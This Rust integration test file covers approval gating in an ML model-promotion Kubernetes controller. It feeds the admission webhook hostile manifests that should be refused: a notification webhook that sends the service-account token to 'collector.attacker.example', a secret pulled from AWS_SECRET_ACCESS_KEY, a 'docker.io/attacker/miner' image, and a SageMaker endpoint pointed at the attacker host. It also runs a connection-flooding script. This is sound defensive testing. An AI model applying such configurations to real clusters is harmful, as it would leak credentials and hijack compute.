//! The security suite (issue 11, SECURITY.md): each way someone holding the promoter role could
//! get an unapproved change into production, or reach the controller's secrets, tried against
//! the real peers — and the allowed path next to it.

mod support;

use std::time::Duration;

use support::admission::Controller;
use support::apiserver::ApiServer;
use support::{eventually, root};

/// Version 8's artifact digest as registered in the examples.
const DIGEST_8: &str = "sha256:9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b";
/// Version 7's.
const DIGEST_7: &str = "sha256:0f3e9b7a2c4d6e8f1a3b5c7d9e0f2a4b6c8d0e1f3a5b7c9d1e3f5a7b9c0d2e4f";
const PRODUCTION: &str = "pitch-frame-classifier-production";

fn apply(api: &ApiServer, user: &str, yaml: &str) {
    let run = api.kubectl_stdin(&["apply", "-f", "-"], user, yaml);
    assert_eq!(run.code, 0, "{}\n{yaml}", run.stderr);
}

fn get(api: &ApiServer, what: &[&str], path: &str) -> String {
    let mut args = vec!["get"];
    args.extend(what);
    let path = format!("jsonpath={path}");
    args.extend(["-o", &path]);
    api.kubectl(&args, "admin").stdout
}

/// The example registry (no deployments), version 8's results, production resolved to 7 and
/// the default policies, as a cluster would have them.
fn registry(api: &ApiServer) {
    api.install_crds();
    let examples = root().join("examples/football-frames");
    // The example's channels read secrets from git mode's environment, which a cluster refuses.
    let mut model: serde_json::Value = slipway_core::catalog::yaml::read(
        &std::fs::read_to_string(examples.join("model.yaml")).unwrap(),
    )
    .unwrap();
    model["spec"]
        .as_object_mut()
        .unwrap()
        .remove("notifications");
    apply(api, "admin", &serde_json::to_string(&model).unwrap());
    for file in [
        "versions.yaml",
        "aliases.yaml",
        "deployments.yaml",
        "policies.yaml",
    ] {
        let run = api.kubectl(
            &["apply", "-f", &examples.join(file).to_string_lossy()],
            "admin",
        );
        assert_eq!(run.code, 0, "{file}: {}", run.stderr);
    }
    // Version 8's results against 7, and (for a move back) 7's against 8, as the controller
    // would have recorded them.
    let eight =
        std::fs::read_to_string(root().join("examples/promotion-pr/results/pitch-frames-8.yaml"))
            .unwrap();
    let seven = eight
        .replace("-8-pitch-frames", "-7-pitch-frames")
        .replace("version: \"8\"", "version: \"7\"")
        .replace("baselineVersion: \"7\"", "baselineVersion: \"8\"")
        .replace("macro_f1: 0.861", "macro_f1: 0.874")
        // (the content address of version 7's run: its artifact, the suite's dataset and runner)
        .replace(&support::example_key("8"), &support::example_key("7"));
    for (name, text) in [("8", eight), ("7", seven)] {
        apply(api, "admin", &text);
        let doc = slipway_core::catalog::yaml::read(&text).unwrap();
        let status = serde_json::json!({"status": serde_json::to_value(&doc["status"]).unwrap()});
        let evaluation = format!("pitch-frame-classifier-{name}-pitch-frames");
        status_patch(api, "evaluation", &evaluation, &status);
    }
    status_patch(
        api,
        "modelalias",
        PRODUCTION,
        &serde_json::json!({"status": {"resolvedVersion": "7"}}),
    );
}

fn status_patch(api: &ApiServer, kind: &str, name: &str, patch: &serde_json::Value) {
    let run = api.kubectl(
        &[
            "patch",
            kind,
            name,
            "--subresource=status",
            "--type=merge",
            "-p",
            &patch.to_string(),
        ],
        "admin",
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
}

fn production(version: &str) -> String {
    format!(
        "apiVersion: slipway.dev/v1alpha1\nkind: ModelAlias\nmetadata: {{name: {PRODUCTION}, namespace: default}}\nspec: {{model: pitch-frame-classifier, alias: production, version: \"{version}\"}}\n"
    )
}

/// An approval as alice would make it, written out in full (no mutating webhook here).
fn approval(name: &str, from: &str, to: &str, digest: &str) -> String {
    format!(
        "apiVersion: slipway.dev/v1alpha1\nkind: Approval\nmetadata: {{name: {name}, namespace: default}}\nspec:\n  target: {{kind: ModelAlias, name: {PRODUCTION}}}\n  version: \"{to}\"\n  fromVersion: \"{from}\"\n  artifactDigest: \"{digest}\"\n  decision: approve\n  approver: alice\n  approverGroups: [ml-leads]\n"
    )
}

fn ready(api: &ApiServer) -> String {
    get(
        api,
        &["malias", PRODUCTION],
        "{.status.resolvedVersion} {.status.conditions[0].reason}: {.status.conditions[0].message}",
    )
}

/// With the webhook bypassed (not installed, `failurePolicy: Ignore`, down), a move the policies
/// want approved is held by the controller until an approval of exactly that move exists; the
/// approval is then used up, and the same move later needs a new one.
#[test]
fn a_move_admitted_without_the_webhook_is_held_until_that_exact_move_is_approved() {
    let api = ApiServer::start();
    registry(&api);
    let controller = Controller::without_webhook(&api, &support::OPEN_BOUNDS);
    eventually(Duration::from_secs(30), || {
        ready(&api).starts_with("7 Resolved").then_some(())
    });

    apply(&api, "admin", &production("8"));
    let held = eventually(Duration::from_secs(30), || {
        let r = ready(&api);
        r.contains("PromotionBlocked").then_some(r)
    });
    assert_eq!(
        held,
        "7 PromotionBlocked: pitch-frame-classifier/production → 8 held: awaiting approval: ml-lead (0/1)",
        "{}",
        controller.log()
    );
    // An approval of another move (from another version) does not release it.
    apply(&api, "admin", &approval("from-9", "9", "8", DIGEST_8));
    std::thread::sleep(Duration::from_secs(2));
    assert!(ready(&api).starts_with("7 PromotionBlocked"));
    apply(&api, "admin", &approval("alice-8", "7", "8", DIGEST_8));
    eventually(Duration::from_secs(30), || {
        ready(&api).starts_with("8 Resolved").then_some(())
    });
    let used = get(&api, &["approval", "alice-8"], "{.status.usedBy}");
    let uid = get(&api, &["malias", PRODUCTION], "{.metadata.uid}");
    assert!(
        used.starts_with(&format!(
            "ModelAlias/default/{PRODUCTION} → 8 (generation 2, uid {uid})"
        )),
        "{used}"
    );
    assert!(get(&api, &["approval", "from-9"], "{.status.usedBy}").is_empty());

    // Back to 7 (approved), then to 8 again: alice-8 signed off 7 → 8 once, and was used.
    apply(&api, "admin", &approval("alice-7", "8", "7", DIGEST_7));
    apply(&api, "admin", &production("7"));
    eventually(Duration::from_secs(30), || {
        ready(&api).starts_with("7 Resolved").then_some(())
    });
    apply(&api, "admin", &production("8"));
    eventually(Duration::from_secs(30), || {
        ready(&api).starts_with("7 PromotionBlocked").then_some(())
    });
}

/// The operator's bounds of the attack tests: a chart's values as a careful platform team sets
/// them.
const STRICT_BOUNDS: [(&str, &str); 9] = [
    ("SLIPWAY_ALLOWED_INSTANCE_TYPES", "ml.m5.*"),
    ("SLIPWAY_MAX_INSTANCE_COUNT", "2"),
    ("SLIPWAY_ALLOWED_DESTINATIONS", "hooks.slack.com,127.0.0.1"),
    ("SLIPWAY_ALLOWED_IMAGES", "registry.example.com/ml/*"),
    ("SLIPWAY_ALLOWED_SERVICE_ACCOUNTS", "evaluator"),
    ("SLIPWAY_MAX_CPU", "4"),
    ("SLIPWAY_MAX_MEMORY", "16Gi"),
    (
        "SLIPWAY_ALLOWED_ENDPOINT_URLS",
        "https://api.sagemaker.eu-west-1.amazonaws.com",
    ),
    (
        "SLIPWAY_ALLOWED_EXECUTION_ROLES",
        "arn:aws:iam::111122223333:role/slipway-*",
    ),
];

/// What `user` gets for applying `yaml`: the exit code and stderr.
fn attempt(api: &ApiServer, user: &str, args: &[&str], yaml: &str) -> (i32, String) {
    let run = api.kubectl_stdin(args, user, yaml);
    (run.code, run.stderr)
}

fn refused(api: &ApiServer, user: &str, yaml: &str, needles: &[&str]) {
    let (code, stderr) = attempt(api, user, &["apply", "-f", "-"], yaml);
    assert_ne!(code, 0, "admitted:\n{yaml}");
    assert!(stderr.contains("denied the request"), "{stderr}");
    for n in needles {
        assert!(stderr.contains(n), "{n}\n{stderr}");
    }
}

/// The example registry on an API server with the chart's roles, and the controller serving
/// the webhook within [`STRICT_BOUNDS`].
fn guarded() -> (ApiServer, Controller) {
    let api = ApiServer::start();
    registry(&api);
    let run = api.kubectl_stdin(&["apply", "-f", "-"], "admin", &support::admission::rbac());
    assert_eq!(run.code, 0, "{}", run.stderr);
    let port = support::free_port();
    apply(
        &api,
        "admin",
        &support::admission::webhook_configurations(port),
    );
    let controller = Controller::start(&api, port, &STRICT_BOUNDS);
    support::admission::wait_for_ca_bundle(&api);
    (api, controller)
}

/// erin holds the chart's promoter role. Every other way to change what production serves or
/// how a candidate is judged, or to make the controller run code or send secrets where she
/// likes, is refused at admission with the reason; the allowed path is next to each.
#[test]
fn a_promoter_cannot_reach_production_or_the_controllers_powers_another_way() {
    let (api, controller) = guarded();

    // Pinning the production deployment to another version: a lead must approve exactly it.
    let pin = r#"[{"op": "remove", "path": "/spec/alias"}, {"op": "add", "path": "/spec/version", "value": "7"}]"#;
    let patch = [
        "patch",
        "mdeploy",
        "pitch-frames-api",
        "--type=json",
        "-p",
        pin,
    ];
    let run = api.kubectl(&patch, "erin");
    assert_ne!(run.code, 0, "{}", controller.log());
    for needle in [
        "ModelDeployment default/pitch-frames-api: changing spec.alias, spec.version (requested by erin) is not allowed",
        "policy production-deployments, approval ml-lead: has 0 of 1 required approvals",
    ] {
        assert!(run.stderr.contains(needle), "{needle}\n{}", run.stderr);
    }
    let at = run.stderr.find("spec.change \"").unwrap() + "spec.change \"".len();
    let change = &run.stderr[at..at + 71];
    let approve = format!(
        "apiVersion: slipway.dev/v1alpha1\nkind: Approval\nmetadata: {{name: pin-7, namespace: default}}\nspec:\n  target: {{kind: ModelDeployment, name: pitch-frames-api}}\n  change: \"{change}\"\n  decision: approve\n"
    );
    let (code, stderr) = attempt(&api, "erin", &["create", "-f", "-"], &approve);
    assert!(code != 0 && stderr.contains("forbidden"), "{stderr}");
    let (code, stderr) = attempt(&api, "alice", &["create", "-f", "-"], &approve);
    assert_eq!(code, 0, "{stderr}");
    let run = api.kubectl(&patch, "erin");
    assert_eq!(run.code, 0, "{}", run.stderr);

    // Loosening how candidates are judged: the gates, the tolerance.
    for (path, value) in [
        ("/spec/evaluations/0/gates", "[]"),
        ("/spec/primaryMetric/maxRegression", "0.5"),
    ] {
        let p = format!(r#"[{{"op": "replace", "path": "{path}", "value": {value}}}]"#);
        let run = api.kubectl(
            &[
                "patch",
                "rmodel",
                "pitch-frame-classifier",
                "--type=json",
                "-p",
                &p,
            ],
            "erin",
        );
        assert_ne!(run.code, 0, "{path}");
        assert!(
            run.stderr
                .contains("policy model-judging, approval ml-lead"),
            "{}",
            run.stderr
        );
    }
    // Results of one's own making: an Evaluation of the model's suite with no gates.
    let results =
        std::fs::read_to_string(root().join("examples/promotion-pr/results/pitch-frames-8.yaml"))
            .unwrap();
    let own = results
        .replace(
            "name: pitch-frame-classifier-8-pitch-frames",
            "name: my-own-results",
        )
        .split("\nstatus:")
        .next()
        .unwrap()
        .replace("    - {metric: macro_f1, op: \">=\", value: 0.80}\n", "");
    refused(
        &api,
        "erin",
        &own,
        &["its gates differ from suite `pitch-frames` of model pitch-frame-classifier"],
    );

    // The controller's secrets and other Secrets of the namespace.
    let model = |spec: &str| {
        format!(
            "apiVersion: slipway.dev/v1alpha1\nkind: RegisteredModel\nmetadata: {{name: side-project, namespace: default}}\nspec:\n{spec}"
        )
    };
    refused(
        &api,
        "erin",
        &model(
            "  notifications:\n    - name: x\n      events: [AliasMoved]\n      slack: {webhookUrl: {env: AWS_SECRET_ACCESS_KEY}}\n",
        ),
        &["spec.notifications[0].slack.webhookUrl: env: and file: secret references"],
    );
    refused(
        &api,
        "erin",
        &model(
            "  notifications:\n    - name: x\n      events: [AliasMoved]\n      webhook:\n        url: https://collector.attacker.example/\n        headers: {X-Token: {file: /var/run/secrets/kubernetes.io/serviceaccount/token}}\n",
        ),
        &[
            "spec.notifications[0].webhook.url: host collector.attacker.example is not among the destinations the operator allows",
            "spec.notifications[0].webhook.headers.X-Token: env: and file:",
        ],
    );
    // Workloads on someone else's behalf: an image and a service account of her choosing.
    let runner = |kubernetes: &str| {
        model(&format!(
            "  evaluations:\n    - name: smoke\n      runner:\n        kubernetes: {kubernetes}\n      dataset: {{uri: \"s3://d/\"}}\n"
        ))
    };
    refused(
        &api,
        "erin",
        &runner(
            "{image: docker.io/attacker/miner, serviceAccountName: slipway, resources: {limits: {cpu: \"64\"}}}",
        ),
        &[
            "image docker.io/attacker/miner is not among the images the operator allows (registry.example.com/ml/*)",
            "service account slipway is not among those the operator lets evaluation Jobs use (evaluator)",
            "spec.evaluations[0].runner.kubernetes.resources.limits.cpu: 64 is more than the operator allows",
        ],
    );
    // What is not bounded by a number: a GPU nobody allowed, an attempt that runs for a month.
    refused(
        &api,
        "erin",
        &model(
            "  evaluations:\n    - name: smoke\n      timeout: 720h\n      runner:\n        kubernetes: {image: registry.example.com/ml/eval:1, resources: {limits: {nvidia.com/gpu: \"8\"}}}\n      dataset: {uri: \"s3://d/\"}\n",
        ),
        &[
            "spec.evaluations[0].runner.kubernetes.resources.limits.nvidia.com/gpu: nvidia.com/gpu is not among the extended resources the operator allows",
            "spec.evaluations[0].timeout: 720h is longer than the operator allows an evaluation attempt to run (86400s; --max-timeout)",
        ],
    );
    let deployment = |image: &str| {
        format!(
            "apiVersion: slipway.dev/v1alpha1\nkind: ModelDeployment\nmetadata: {{name: side-api, namespace: default}}\nspec:\n  model: pitch-frame-classifier\n  alias: staging\n  target:\n    kubernetes: {{image: {image}, port: 8080}}\n"
        )
    };
    refused(
        &api,
        "erin",
        &deployment("docker.io/attacker/miner"),
        &["spec.target.kubernetes.image: image docker.io/attacker/miner is not among"],
    );
    // SageMaker: the controller's signed requests to an address of her choosing, its roles.
    let sagemaker = "apiVersion: slipway.dev/v1alpha1\nkind: ModelDeployment\nmetadata: {name: side-endpoint, namespace: default}\nspec:\n  model: pitch-frame-classifier\n  alias: staging\n  target:\n    sagemaker: {endpointName: side, endpointUrl: \"http://collector.attacker.example\", executionRoleArn: \"arn:aws:iam::111122223333:role/admin\", image: img, instanceType: ml.p5.48xlarge, instanceCount: 40}\n";
    refused(
        &api,
        "erin",
        sagemaker,
        &[
            "spec.target.sagemaker.endpointUrl: `http://collector.attacker.example` is plain HTTP",
            "spec.target.sagemaker.executionRoleArn: role arn:aws:iam::111122223333:role/admin is not among",
            // And the bill: forty of the largest GPU instances.
            "spec.target.sagemaker.instanceType: instance type ml.p5.48xlarge is not among those the operator lets deployments run on (ml.m5.*)",
            "spec.target.sagemaker.instanceCount: 40 instances are more than the operator lets a deployment run (2; --max-instance-count)",
        ],
    );

    // The allowed paths, within the bounds: an experiment of her own with an allowed image, a
    // Slack channel with a Secret that opted in, a deployment of an allowed image — each, as
    // what it runs and where it sends, with a lead's approval of exactly it.
    let api = &api;
    let apply_as_erin =
        |yaml: String| move || api.kubectl_stdin(&["apply", "-f", "-"], "erin", &yaml);
    approved_by_a_lead(
        api,
        "RegisteredModel",
        "side-project",
        apply_as_erin(runner(
            "{image: \"registry.example.com/ml/eval:1\", resources: {limits: {cpu: \"2\"}}}",
        )),
    );
    approved_by_a_lead(
        api,
        "RegisteredModel",
        "side-channel",
        apply_as_erin(
            model(
                "  notifications:\n    - name: x\n      events: [AliasMoved]\n      slack: {webhookUrl: {secretKeyRef: {name: slack, key: url}}}\n",
            )
            .replace("name: side-project", "name: side-channel"),
        ),
    );
    approved_by_a_lead(
        api,
        "ModelDeployment",
        "side-api",
        apply_as_erin(deployment("registry.example.com/ml/serve:1")),
    );
}

/// Runs `act` as the promoter: refused for want of a lead's approval, approved by alice for
/// exactly that change (of `kind` `name`, as the denial names it), then admitted.
fn approved_by_a_lead(api: &ApiServer, kind: &str, name: &str, act: impl Fn() -> support::Run) {
    let run = act();
    assert_ne!(run.code, 0, "{kind} {name} admitted without approval");
    let at = run.stderr.find("spec.change \"").expect(&run.stderr) + "spec.change \"".len();
    let change = &run.stderr[at..at + 71];
    let approval = format!(
        "apiVersion: slipway.dev/v1alpha1\nkind: Approval\nmetadata: {{name: approve-{}-{}, namespace: default}}\nspec:\n  target: {{kind: {kind}, name: {name}}}\n  change: \"{change}\"\n  decision: approve\n",
        name.to_lowercase(),
        &change[7..15]
    );
    let (code, stderr) = attempt(api, "alice", &["create", "-f", "-"], &approval);
    assert_eq!(code, 0, "{stderr}");
    let run = act();
    assert_eq!(run.code, 0, "{kind} {name}: {}", run.stderr);
}

/// Objects admitted while the webhook was not called (not installed, `failurePolicy: Ignore`,
/// down) still cannot make the controller run an image, or use a service account, outside the
/// operator's bounds: the evaluation fails and the deployment stalls, saying why, and no Job or
/// Deployment is created.
#[test]
fn outside_the_bounds_nothing_runs_even_without_the_webhook() {
    let api = ApiServer::start();
    api.install_crds();
    let _controller = Controller::without_webhook(&api, &STRICT_BOUNDS);
    apply(
        &api,
        "admin",
        "apiVersion: slipway.dev/v1alpha1\nkind: RegisteredModel\nmetadata: {name: miner, namespace: default}\nspec:\n  evaluations:\n    - name: smoke\n      runner:\n        kubernetes: {image: docker.io/attacker/miner, serviceAccountName: slipway}\n      dataset: {uri: \"s3://d/\"}\n---\napiVersion: slipway.dev/v1alpha1\nkind: ModelVersion\nmetadata: {name: miner-1, namespace: default}\nspec: {model: miner, version: \"1\", artifact: {uri: \"s3://m/1\", digest: \"sha256:01\"}}\n---\napiVersion: slipway.dev/v1alpha1\nkind: ModelDeployment\nmetadata: {name: miner-api, namespace: default}\nspec:\n  model: miner\n  version: \"1\"\n  target:\n    kubernetes: {image: docker.io/attacker/miner, port: 8080}\n",
    );
    let settled = |what: &[&str], path: &str, prefix: &str| {
        eventually(Duration::from_secs(60), || {
            let m = get(&api, what, path);
            m.starts_with(prefix).then_some(m)
        })
    };
    let evaluation = settled(
        &["meval", "miner-1-smoke"],
        "{.status.phase}: {.status.conditions[0].message}",
        "Failed",
    );
    assert!(
        evaluation
            .contains("image docker.io/attacker/miner is not among the images the operator allows")
            && evaluation.contains("service account slipway is not among"),
        "{evaluation}"
    );
    let deployment = settled(
        &["mdeploy", "miner-api"],
        "{.status.conditions[?(@.type==\"Stalled\")].reason}: {.status.conditions[?(@.type==\"Stalled\")].message}",
        "OutsideBounds",
    );
    assert!(
        deployment.contains("spec.target.kubernetes.image: image docker.io/attacker/miner"),
        "{deployment}"
    );
    let created = api.kubectl(&["get", "jobs,deployments", "-o", "name"], "admin");
    assert_eq!(created.stdout.trim(), "", "{}", created.stderr);
}

/// The certificate a replica serves, as a TLS client sees it (PEM).
fn served_certificate(port: u16) -> String {
    let out = std::process::Command::new("python3")
        .args([
            "-c",
            &format!("import ssl; print(ssl.get_server_certificate(('127.0.0.1', {port})))"),
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// Two replicas (the chart's default) serve one certificate, kept in a Secret the first one
/// writes: the `caBundle` they publish is the one both present, so no admission call fails TLS.
#[test]
fn every_replica_serves_the_one_webhook_certificate() {
    let api = ApiServer::start();
    api.install_crds();
    let (a, b) = (support::free_port(), support::free_port());
    apply(
        &api,
        "admin",
        &support::admission::webhook_configurations(a),
    );
    let shared = ["--webhook-secret", "slipway-webhook-tls"];
    let first = Controller::replica(&api, a, &support::OPEN_BOUNDS, &shared);
    let second = Controller::replica(&api, b, &support::OPEN_BOUNDS, &shared);
    let up = |p: u16| std::net::TcpStream::connect(("127.0.0.1", p)).is_ok();
    // Under the whole suite's load a replica can take a while; when one never serves, its log
    // says why.
    let deadline = std::time::Instant::now() + Duration::from_secs(90);
    while !(up(a) && up(b)) {
        assert!(
            std::time::Instant::now() < deadline,
            "a replica does not serve the webhook after 90 s\nfirst:\n{}\nsecond:\n{}",
            first.log(),
            second.log()
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    let (one, two) = (served_certificate(a), served_certificate(b));
    assert_eq!(one, two);
    let stored = get(
        &api,
        &["secret", "slipway-webhook-tls"],
        "{.data.tls\\.crt}",
    );
    let stored = String::from_utf8(
        std::process::Command::new("base64")
            .arg("-d")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .and_then(|mut c| {
                use std::io::Write;
                c.stdin.take().unwrap().write_all(stored.as_bytes())?;
                c.wait_with_output()
            })
            .unwrap()
            .stdout,
    )
    .unwrap();
    assert_eq!(stored.trim(), one);
    let bundle = eventually(Duration::from_secs(30), || {
        let b = get(
            &api,
            &["validatingwebhookconfiguration", "slipway"],
            "{.webhooks[0].clientConfig.caBundle}",
        );
        (!b.is_empty()).then_some(b)
    });
    assert_eq!(
        bundle,
        get(
            &api,
            &["secret", "slipway-webhook-tls"],
            "{.data.tls\\.crt}"
        )
    );
}

/// Someone who can reach the webhook opens connections and sends nothing (from another address
/// than the API server's). Past the per-address limit they are closed at once; the rest are
/// closed when the handshake time is up; admission answers the API server all along.
#[test]
fn a_slow_or_hostile_client_cannot_starve_admission() {
    use std::io::{BufRead, BufReader};
    let api = ApiServer::start();
    api.install_crds();
    let port = support::free_port();
    apply(
        &api,
        "admin",
        &support::admission::webhook_configurations(port),
    );
    let controller = Controller::start(&api, port, &support::OPEN_BOUNDS);
    support::admission::wait_for_ca_bundle(&api);
    // 200 connections from 127.0.0.2 that never start TLS: how many are closed within 0.5 s,
    // then how long until the server has closed them all.
    let script = format!(
        r#"
import socket, sys, time
held = []
for _ in range(200):
    s = socket.socket()
    s.bind(("127.0.0.2", 0))
    s.connect(("127.0.0.1", {port}))
    held.append(s)
time.sleep(0.5)
closed = 0
for s in held:
    s.settimeout(0.01)
    try:
        if s.recv(1) == b"":
            closed += 1
    except socket.timeout:
        pass
    except ConnectionResetError:
        closed += 1
print(closed, flush=True)
start = time.time()
for s in held:
    s.settimeout(max(0.01, 20 - (time.time() - start)))
    try:
        s.recv(1)
    except (socket.timeout, ConnectionResetError):
        pass
print(round(time.time() - start, 1), flush=True)
"#
    );
    let mut attacker = std::process::Command::new("python3")
        .args(["-c", &script])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(attacker.stdout.take().unwrap()).lines();
    let closed: usize = lines.next().unwrap().unwrap().trim().parse().unwrap();
    assert!(closed >= 200 - 64, "only {closed} of 200 closed at once");
    // While the rest are held open, the API server's admission calls are answered.
    let started = std::time::Instant::now();
    let run = api.kubectl_stdin(
        &["apply", "-f", "-"],
        "admin",
        "apiVersion: slipway.dev/v1alpha1\nkind: RegisteredModel\nmetadata: {name: m, namespace: default}\nspec: {}\n",
    );
    assert_eq!(run.code, 0, "{}\n{}", run.stderr, controller.log());
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    let all_closed: f64 = lines.next().unwrap().unwrap().trim().parse().unwrap();
    assert!(all_closed < 10.0, "held open for {all_closed} s");
    let _ = attacker.wait();
}

/// A ModelDeployment named like someone else's Service (or whose version Deployment name is
/// taken) does not take them over: the controller writes and deletes only objects it owns.
#[test]
fn a_deployment_never_takes_over_objects_it_does_not_own() {
    let api = ApiServer::start();
    api.install_crds();
    let controller = Controller::without_webhook(&api, &support::OPEN_BOUNDS);
    apply(
        &api,
        "admin",
        "apiVersion: v1\nkind: Service\nmetadata: {name: victim, namespace: default}\nspec:\n  selector: {app: database}\n  ports: [{name: http, port: 80, targetPort: 5432}]\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: victim-v1, namespace: default}\nspec:\n  selector: {matchLabels: {app: database}}\n  template:\n    metadata: {labels: {app: database}}\n    spec: {containers: [{name: db, image: postgres:16}]}\n",
    );
    apply(
        &api,
        "admin",
        "apiVersion: slipway.dev/v1alpha1\nkind: RegisteredModel\nmetadata: {name: m, namespace: default}\nspec: {}\n---\napiVersion: slipway.dev/v1alpha1\nkind: ModelVersion\nmetadata: {name: m-1, namespace: default}\nspec: {model: m, version: \"1\", artifact: {uri: \"s3://m/1\", digest: \"sha256:01\"}}\n---\napiVersion: slipway.dev/v1alpha1\nkind: ModelDeployment\nmetadata: {name: victim, namespace: default}\nspec:\n  model: m\n  version: \"1\"\n  target:\n    kubernetes: {image: \"registry.example.com/ml/serve:1\", port: 8080}\n",
    );
    eventually(Duration::from_secs(60), || {
        controller
            .log()
            .contains("Service default/victim exists and is not ModelDeployment victim's")
            .then_some(())
    });
    assert_eq!(
        get(&api, &["service", "victim"], "{.spec.selector.app}"),
        "database"
    );
    assert_eq!(
        get(
            &api,
            &["deployment", "victim-v1"],
            "{.spec.template.spec.containers[0].image}"
        ),
        "postgres:16"
    );
}

/// A namespace without policies of its own is governed by the operator's default set (the
/// policies of `--policy-namespace`, here `default`), and an experiment — an `Evaluation` of a
/// suite the model does not declare — needs a lead as the model's own suites do.
#[test]
fn no_namespace_and_no_experiment_escapes_the_default_policies() {
    let (api, controller) = guarded();
    for ns in ["team-x", "team-y"] {
        assert_eq!(api.kubectl(&["create", "namespace", ns], "admin").code, 0);
    }

    // A new namespace: a model there and its production alias are decided by the default set.
    let model = |ns: &str| {
        format!(
            "apiVersion: slipway.dev/v1alpha1\nkind: RegisteredModel\nmetadata: {{name: churn, namespace: {ns}}}\nspec:\n  evaluations:\n    - name: holdout\n      runner: {{kubernetes: {{image: registry.example.com/ml/eval:1}}}}\n      dataset: {{uri: s3://d/holdout}}\n      gates: [{{metric: f1, op: \">=\", value: 0.5}}]\n"
        )
    };
    refused(
        &api,
        "erin",
        &model("team-x"),
        &[
            "RegisteredModel team-x/churn",
            "policy model-judging, approval ml-lead: has 0 of 1",
        ],
    );
    // A namespace with policies of its own (the operator's opt-out) is governed by them alone;
    // giving it its first policy is itself a change of policy the default set decides.
    let opt_out = "apiVersion: slipway.dev/v1alpha1\nkind: PromotionPolicy\nmetadata: {name: groups-only, namespace: team-y}\nspec:\n  match: {kinds: [Group]}\n";
    let (code, stderr) = attempt(&api, "admin", &["apply", "-f", "-"], opt_out);
    assert!(
        code != 0 && stderr.contains("policy policies-and-groups, approval ml-lead"),
        "{stderr}"
    );
    let at = stderr.find("spec.change \"").unwrap() + "spec.change \"".len();
    let approval = format!(
        "apiVersion: slipway.dev/v1alpha1\nkind: Approval\nmetadata: {{name: opt-out, namespace: team-y}}\nspec:\n  target: {{kind: PromotionPolicy, name: groups-only}}\n  change: \"{}\"\n  decision: approve\n",
        &stderr[at..at + 71]
    );
    let (code, stderr) = attempt(&api, "alice", &["create", "-f", "-"], &approval);
    assert_eq!(code, 0, "{stderr}");
    apply(&api, "admin", opt_out);
    eventually(Duration::from_secs(20), || {
        (attempt(&api, "erin", &["apply", "-f", "-"], &model("team-y")).0 == 0).then_some(())
    });
    // The default set's own namespace is governed by it as before.
    refused(
        &api,
        "erin",
        &production("8"),
        &["policy production, approval ml-lead: has 0 of 1"],
    );

    // An experiment: a suite the model does not declare, running an allowed image.
    let experiment = "apiVersion: slipway.dev/v1alpha1\nkind: Evaluation\nmetadata: {name: adhoc-8, namespace: default}\nspec:\n  model: pitch-frame-classifier\n  version: \"8\"\n  suite: adhoc\n  dataset: {uri: s3://d/x}\n  runner: {kubernetes: {image: registry.example.com/ml/eval:1}}\n  gates: [{metric: f1, op: \">=\", value: 0.0}]\n";
    let (code, stderr) = attempt(&api, "erin", &["create", "-f", "-"], experiment);
    assert_ne!(
        code,
        0,
        "an experiment was admitted without a lead: {}",
        controller.log()
    );
    assert!(
        stderr.contains("Evaluation default/adhoc-8")
            && stderr.contains("policy experiments, approval ml-lead: has 0 of 1"),
        "{stderr}"
    );
    // With a lead's approval of exactly that object, it is admitted.
    let at = stderr.find("spec.change \"").unwrap() + "spec.change \"".len();
    let change = &stderr[at..at + 71];
    let approve = format!(
        "apiVersion: slipway.dev/v1alpha1\nkind: Approval\nmetadata: {{name: adhoc-ok, namespace: default}}\nspec:\n  target: {{kind: Evaluation, name: adhoc-8}}\n  change: \"{change}\"\n  decision: approve\n"
    );
    let (code, stderr) = attempt(&api, "alice", &["create", "-f", "-"], &approve);
    assert_eq!(code, 0, "{stderr}");
    let (code, stderr) = attempt(&api, "erin", &["create", "-f", "-"], experiment);
    assert_eq!(code, 0, "{stderr}");
}

/// A deletion is signed off for one object (its uid) as it is (its generation and spec), once:
/// an approval of it does not remove an object made again under the same name, and it expires.
#[test]
fn an_approved_deletion_removes_that_object_once() {
    let (api, controller) = guarded();

    // What rules read of a version is not hers to edit after it is registered.
    let (code, stderr) = attempt(
        &api,
        "erin",
        &[
            "patch",
            "mver",
            "pitch-frame-classifier-8",
            "--type=merge",
            "-p",
            r#"{"spec": {"metrics": {"f1": 0.99}}}"#,
        ],
        "",
    );
    assert!(
        code != 0 && stderr.contains("policy version-facts, approval ml-lead"),
        "{stderr}"
    );
    // The operator's retry of the production deployment is a change a lead signs off, once.
    let retry = [
        "annotate",
        "--overwrite",
        "mdeploy",
        "pitch-frames-api",
        "slipway.dev/retry=8",
    ];
    let (code, stderr) = attempt(&api, "erin", &retry, "");
    assert!(
        code != 0
            && stderr.contains("policy production-deployments, approval ml-lead")
            && stderr.contains(r#"metadata.annotations["slipway.dev/retry"]: (absent) → "8""#),
        "{stderr}"
    );
    approved_by_a_lead(&api, "ModelDeployment", "pitch-frames-api", || {
        api.kubectl(&retry, "erin")
    });
    // Taken back off (as the controller does once it acted on it), it is not hers to set again
    // with the same approval.
    let run = api.kubectl(
        &[
            "annotate",
            "mdeploy",
            "pitch-frames-api",
            "slipway.dev/retry-",
        ],
        "admin",
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let (code, stderr) = attempt(&api, "erin", &retry, "");
    assert!(
        code != 0 && stderr.contains("not this one"),
        "the approval was used again: {stderr}"
    );

    let delete = ["delete", "mdeploy", "pitch-frames-api"];
    let (code, stderr) = attempt(&api, "erin", &delete, "");
    assert_ne!(code, 0, "{}", controller.log());
    assert!(stderr.contains("the object's deletion"), "{stderr}");
    let at = stderr.find("spec.change \"").unwrap() + "spec.change \"".len();
    let change = stderr[at..at + 71].to_string();
    let approval = format!(
        "apiVersion: slipway.dev/v1alpha1\nkind: Approval\nmetadata: {{name: remove-api, namespace: default}}\nspec:\n  target: {{kind: ModelDeployment, name: pitch-frames-api}}\n  change: \"{change}\"\n  decision: approve\n"
    );
